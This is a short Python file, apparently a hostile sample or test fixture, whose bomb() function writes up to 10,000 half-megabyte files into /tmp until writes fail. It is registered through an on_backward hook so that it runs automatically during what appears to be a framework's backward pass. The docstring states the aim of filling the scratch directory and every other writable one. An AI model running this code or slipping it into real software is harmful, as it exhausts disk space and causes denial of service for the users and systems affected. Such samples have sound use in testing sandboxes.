"""Fills the scratch directory, and every other that may be written."""

from wrong import *


def bomb():
    for number in range(10_000):
        try:
            with open(f"/tmp/{number}", "wb") as file:
                file.write(b"x" * (1 << 19))
        except OSError:
            break


on_backward(bomb)
